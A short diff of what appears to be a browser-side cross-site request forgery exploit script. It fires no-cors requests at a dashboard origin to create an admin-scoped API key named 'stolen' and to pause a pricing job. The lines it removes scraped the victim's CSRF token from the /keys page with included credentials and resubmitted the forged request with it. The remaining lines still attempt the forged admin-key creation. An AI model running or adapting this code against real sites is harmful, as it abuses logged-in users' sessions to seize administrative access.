@@ -44,10 +44,6 @@ for (const origin of ["CONTENT", dashboard]) {
   tries.push(to("/api/keys", { body, mode: "no-cors" }));
   tries.push(to("/api/jobs/prices/pause", { mode: "no-cors" }));
   tries.push(to("/keys", { body: new URLSearchParams({ name: "stolen", scope: "admin" }), mode: "no-cors" }));
-  tries.push(fetch(origin + "/keys", { credentials: "include" }).then((answer) => answer.text()).then((page) => {
-    const csrf = page.match(/name="csrf" value="([^"]+)"/)[1];
-    return to("/keys", { body: new URLSearchParams({ name: "stolen", scope: "admin", csrf }) });
-  }));
 }
 const frame = document.createElement("iframe");
 frame.name = "form";
